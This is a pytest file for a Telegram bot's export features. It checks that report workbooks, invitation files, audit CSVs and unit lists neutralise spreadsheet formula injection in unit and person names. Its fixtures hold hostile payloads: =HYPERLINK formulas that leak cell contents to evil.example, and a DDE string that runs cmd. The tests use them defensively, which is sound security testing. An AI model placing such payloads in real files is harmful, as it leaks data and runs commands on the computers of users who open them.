"""No live formulas in anything we export (issue 12 §3): a unit name or a Telegram display name
such as `=HYPERLINK(…)` comes back as text in every workbook and every CSV, intact."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from sqlmodel import Session, col, select

from bot import cli
from bot.core import audit
from bot.core.db import session_scope
from bot.core.models import Acknowledgement, AppUser, Unit
from bot.units.changes import rename_unit
from tests.conftest import ADMIN_ID, Harness
from tests.deadline_kit import (
    PHU_DUC_HEAD,
    PHU_DUC_STAFF,
    at,
    create_template,
    link_officials,
    use_clock,
)

EVIL_UNIT = '=HYPERLINK("http://evil.example/?leak="&B3,"Đảng ủy xã Phụ Dực")'
EVIL_PERSON = '=HYPERLINK("http://evil.example/?leak="&B3,"Nguyễn Văn A")'
EVIL_STAFF = '@SUM(1+1)*cmd|" /C calc"!A0'
RISKY = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?\d[\d.,]*%?")


def live_in_csv(field: str) -> bool:
    """Would a spreadsheet read this CSV field as a formula?"""
    if PLAIN_NUMBER.fullmatch(field):
        return False
    return field.startswith(RISKY) or field.lstrip(" ").startswith(RISKY)


def csv_fields(text: str) -> list[str]:
    """Every field of a CSV text."""
    return [field for row in csv.reader(io.StringIO(text)) for field in row]


def assert_safe_csv(text: str, *names: str) -> None:
    """No field is a live formula, and every name is there, neutralised with an apostrophe."""
    fields = csv_fields(text)
    assert [f for f in fields if live_in_csv(f)] == []
    for name in names:
        assert f"'{name}" in fields, name


def workbook_values(data: bytes) -> dict[str, list[object]]:
    """Every cell value by sheet; asserts that no cell of any sheet is a formula."""
    wb = openpyxl.load_workbook(io.BytesIO(data))
    found: dict[str, list[object]] = {}
    for ws in wb.worksheets:
        cells = [cell for row in ws.iter_rows() for cell in row]
        assert [c.coordinate for c in cells if c.data_type == "f"] == [], ws.title
        found[ws.title] = [c.value for c in cells]
    return found


def rename(h: Harness, needle: str, name: str) -> None:
    """Give the unit whose name contains `needle` a new name (as the secretariat could)."""
    with session_scope(h.engine) as session:
        unit = session.exec(select(Unit).where(col(Unit.name).contains(needle))).one()
        assert unit.id is not None
        rename_unit(session=session, unit_id=unit.id, new_name=name, actor=ADMIN_ID)


def call_yourself(h: Harness, telegram_id: int, name: str) -> None:
    """Set a person's Telegram display name."""
    with session_scope(h.engine) as session:
        user = session.get(AppUser, telegram_id)
        assert user is not None
        user.display_name = name
        session.add(user)


@pytest.fixture
async def hostile(loaded: Harness) -> Harness:
    """Phụ Dực renamed to a formula, its head and staff with formula display names; the staff
    blocked the bot, the head acknowledged an announcement, a deadline is open."""
    link_officials(loaded)
    use_clock(loaded, at(6, 22, 16))
    await create_template(loaded)
    rename(loaded, "Phụ Dực", EVIL_UNIT)
    call_yourself(loaded, PHU_DUC_HEAD, EVIL_PERSON)
    call_yourself(loaded, PHU_DUC_STAFF, EVIL_STAFF)
    with session_scope(loaded.engine) as session:
        unit = session.exec(select(Unit).where(Unit.name == EVIL_UNIT)).one()
        ack = Acknowledgement(subject="deadline:1", telegram_id=PHU_DUC_HEAD, unit_id=unit.id)
        session.add(ack)
        staff = session.get(AppUser, PHU_DUC_STAFF)
        assert staff is not None
        staff.reachable = False
        staff.unreachable_reason = "Forbidden: bot was blocked by the user"
        session.add(staff)
        audit.record(session=session, actor=PHU_DUC_HEAD, action="role.grant", subject="x")
    return loaded


def last_document(h: Harness) -> tuple[str, bytes]:
    """The last file the bot sent."""
    call = h.request.sent("sendDocument")[-1]
    (upload,) = call.uploads.values()
    return upload


async def test_the_report_workbook_has_no_formula_in_any_sheet(hostile: Harness) -> None:
    """/baocao: the appendix, deadline, acknowledgement and unreachable sheets keep the names
    as text; the figures stay numbers."""
    await hostile.send(ADMIN_ID, "/baocao")
    name, data = last_document(hostile)
    assert name.endswith(".xlsx")
    sheets = workbook_values(data)
    appendix, deadline, acks, unreachable = (list(sheets.values()) + [[]] * 4)[:4]
    assert list(sheets)[2:] == ["Xác nhận đã nhận", "Cán bộ không liên lạc được"]
    assert EVIL_UNIT in appendix and EVIL_UNIT in deadline
    assert EVIL_UNIT in acks and EVIL_PERSON in acks
    assert EVIL_UNIT in unreachable and EVIL_STAFF in unreachable
    assert 5224 in appendix and 4299 in appendix  # the totals are still numbers
    wb = openpyxl.load_workbook(io.BytesIO(data))
    evil = [c for row in wb.worksheets[0].iter_rows() for c in row if c.value == EVIL_UNIT]
    assert evil and all(c.data_type == "s" and c.quotePrefix for c in evil)


async def test_bulk_invitations_workbook_has_no_formula(hostile: Harness) -> None:
    """/moi_hangloat xa bithu: the renamed commune is a text cell."""
    await hostile.send(ADMIN_ID, "/moi_hangloat xa bithu")
    _name, data = last_document(hostile)
    (values,) = workbook_values(data).values()
    assert EVIL_UNIT in values


async def test_deadline_status_csv_neutralises_names(hostile: Harness) -> None:
    """The deadline's status table (CSV button) writes the unit name as inert text."""
    await hostile.press(ADMIN_ID, "dl:csv:1")
    name, data = last_document(hostile)
    assert name == "hanchot-1.csv" and data.startswith(b"\xef\xbb\xbf")
    assert_safe_csv(data.decode("utf-8-sig"), EVIL_UNIT)
    assert ',"\'=HYPERLINK(""http' in data.decode("utf-8-sig")


@pytest.fixture
def on_the_same_database(
    hostile: Harness, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> Iterator[Harness]:
    """The command line pointed at the harness's database."""
    url = hostile.app.bot_data.runtime.settings.database_url
    monkeypatch.chdir(tmp_path)
    for name in ("TELEGRAM_BOT_TOKEN", "DEFAULT_LANGUAGE", "TELEGRAM_BOT_USERNAME"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("DATABASE_URL", url)
    monkeypatch.setattr(cli, "setup_logging", lambda *a, **k: None)
    yield hostile


def test_invitation_files_from_the_command_line(
    on_the_same_database: Harness, tmp_path: Path
) -> None:
    """`invites --out links.xlsx` and `--out links.csv`: no formula, the name intact."""
    xlsx, text = tmp_path / "links.xlsx", tmp_path / "links.csv"
    assert cli.main(["invites", "--unit-kind", "xa", "--out", str(xlsx)]) == 0
    (values,) = workbook_values(xlsx.read_bytes()).values()
    assert EVIL_UNIT in values
    assert cli.main(["invites", "--unit-kind", "xa", "--out", str(text)]) == 0
    raw = text.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert_safe_csv(raw.decode("utf-8-sig"), EVIL_UNIT)


def test_audit_csv_neutralises_display_names(on_the_same_database: Harness, tmp_path: Path) -> None:
    """`audit --out audit.csv`: the actor's display name is inert text."""
    out = tmp_path / "audit.csv"
    assert cli.main(["audit", "--since", "2026-01-01", "--out", str(out)]) == 0
    assert_safe_csv(out.read_bytes().decode("utf-8-sig"), EVIL_PERSON)


def test_units_list_is_inert_and_applies_back_unchanged(
    on_the_same_database: Harness, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """`units list`: the name is neutralised, and feeding the file back changes nothing."""
    capsys.readouterr()
    assert cli.main(["units", "list", "--inactive"]) == 0
    listed = capsys.readouterr().out
    assert_safe_csv(listed, EVIL_UNIT)
    path = tmp_path / "units.csv"
    path.write_text(listed, encoding="utf-8")
    assert cli.main(["units", "apply", str(path)]) == 0
    out = capsys.readouterr().out
    assert "thêm 0, sửa 0, giữ nguyên 104" in out
    with Session(on_the_same_database.engine) as session:
        assert session.exec(select(Unit).where(Unit.name == EVIL_UNIT)).one()


def test_negative_numbers_stay_numbers(tmp_path: Path) -> None:
    """A negative figure is still a number in both formats; text that is only a number is kept."""
    from bot.core.cells import append_row, csv_row

    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    append_row(ws, [-5, -2.5, "-3", "+84", "-1+2", "\t=1", " =1", "ok"])
    path = tmp_path / "n.xlsx"
    wb.save(path)
    cells = next(openpyxl.load_workbook(path).worksheets[0].iter_rows())
    assert [c.value for c in cells][:2] == [-5, -2.5]
    assert [c.data_type for c in cells] == ["n", "n", "s", "s", "s", "s", "s", "s"]
    assert [bool(c.quotePrefix) for c in cells] == [False] * 4 + [True] * 3 + [False]
    assert csv_row([-5, -2.5, "-3", "-1+2", "\t=1", " =1", None]) == [
        -5,
        -2.5,
        "-3",
        "'-1+2",
        "'\t=1",
        "' =1",
        "",
    ]


def test_invitation_codes_never_start_with_a_minus(monkeypatch: pytest.MonkeyPatch) -> None:
    """A code is copied from the invitation file as it is: none starts with "-" (which the CSV
    would have to neutralise with an apostrophe)."""
    from bot.invites import codes

    drawn = iter(["-AAAAAAAAAAAAAAAAAAAAA", "--AAAAAAAAAAAAAAAAAAAA", "BAAAAAAAAAAAAAAAAAAAA-"])
    monkeypatch.setattr(codes.secrets, "token_urlsafe", lambda n: next(drawn))
    assert codes.new_code() == "BAAAAAAAAAAAAAAAAAAAA-"


async def test_the_unreachable_sheet_lists_exactly_who_cannot_be_messaged(
    hostile: Harness,
) -> None:
    """/baocao's unreachable sheet: the staff member who blocked the bot and an official who
    never started it are listed; the head the bot can reach is not."""
    from bot.core.models import Official, Role

    never_started = 777_000_001
    with session_scope(hostile.engine) as session:
        unit = session.exec(select(Unit).where(Unit.name == EVIL_UNIT)).one()
        session.add(Official(telegram_id=never_started, unit_id=unit.id, role=Role.STAFF.value))
    await hostile.send(ADMIN_ID, "/baocao")
    _name, data = last_document(hostile)
    unreachable = list(workbook_values(data).values())[3]
    assert EVIL_STAFF in unreachable and never_started in unreachable
    assert EVIL_PERSON not in unreachable
